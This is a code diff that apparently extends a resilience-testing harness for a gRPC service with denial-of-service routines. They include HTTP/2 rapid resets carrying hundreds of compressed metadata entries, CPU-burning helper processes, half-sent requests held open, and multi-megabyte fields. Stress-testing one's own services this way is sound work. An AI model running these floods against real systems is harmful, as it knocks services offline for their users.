@@ -5,6 +5,9 @@ import contextlib
 import os
 import socket
 import struct
+import subprocess
+import sys
+import threading
 import time
 import zlib
 
@@ -422,6 +425,92 @@ def rapid_reset(target, stop):
             connection.read(0)
     finally:
         connection.close()
+
+
+def many_entries(first, count):
+    """Headers of a request with so many entries of metadata, a byte each once the connection's table holds it (RFC 7541)."""
+    held = b"\xbe"  # the newest of the table
+    return request_headers(VERIFY + "CheckBulk") + (b"\x40\x01a\x00" if first else held) + held * (count - 1)
+
+
+# As many as fit into what gRPC takes of metadata, and into twice that.
+ENTRIES = (230, 440)
+
+
+# One more program that computes, as any machine has that does other work; it ends by itself where nobody ends it.
+BURN = "import time\nend = time.monotonic() + 300\nwhile time.monotonic() < end: pass"
+
+
+def reset_again_and_again(target, stop, entries):
+    while not stop():
+        connection = target.connect(timeout=1)
+        try:
+            first = True
+            while not stop():
+                batch = b""
+                for _ in range(20):
+                    stream = connection.next_stream
+                    connection.next_stream += 2
+                    batch += frame(HEADERS, END_HEADERS, stream, many_entries(first, entries))
+                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+                    first = False
+                connection.send(batch)
+                connection.read(0)
+        except (OSError, Closed):
+            time.sleep(0.01)
+        finally:
+            connection.close()
+
+
+@attack("reset_with_metadata", "caller", names="api_streams", at_once=3, brief=True)
+def reset_with_metadata(target, stop):
+    """calls with hundreds of entries of metadata, a byte each, cancelled in the same breath on four connections, on a busy machine"""
+    stopped = threading.Event()
+    busy = [subprocess.Popen((sys.executable, "-c", BURN)) for _ in range(2)]
+    threads = [threading.Thread(target=reset_again_and_again, args=(target, stopped.is_set, ENTRIES[i % 2])) for i in range(4)]
+    for each in threads:
+        each.start()
+    try:
+        while not stop():
+            time.sleep(0.05)
+    finally:
+        stopped.set()
+        for each in busy:
+            each.kill()
+            each.wait()
+        for each in threads:
+            each.join()
+
+
+@attack("half_requests_with_metadata", "caller", names="api_streams", at_once=3, brief=True)
+def half_requests_with_metadata(target, stop):
+    """calls with hundreds of entries of metadata that never send their request"""
+    connections = []
+    try:
+        while not stop():
+            if len(connections) < 16:
+                one = target.connect(timeout=1)
+                connections.append(one)
+                for i in range(100):
+                    stream = one.next_stream
+                    one.next_stream += 2
+                    one.send(frame(HEADERS, END_HEADERS, stream, many_entries(i == 0, ENTRIES[len(connections) % 2])))
+            for one in list(connections):
+                try:
+                    one.read(0)
+                except Closed:
+                    connections.remove(one)
+            time.sleep(0.02)
+    finally:
+        for one in connections:
+            one.close()
+
+
+@attack("long_names", "caller", at_once=3, brief=True)
+def long_names(target, stop):
+    """institutions asked for by a domain of 3.9 MB, which the error repeats"""
+    body = field(3, "a" * 3_900_000)
+    flood(target, stop, REGISTRY + "GetInstitution", lambda turn: body, streams=4)
 
 
 @attack("ping_flood", "caller")
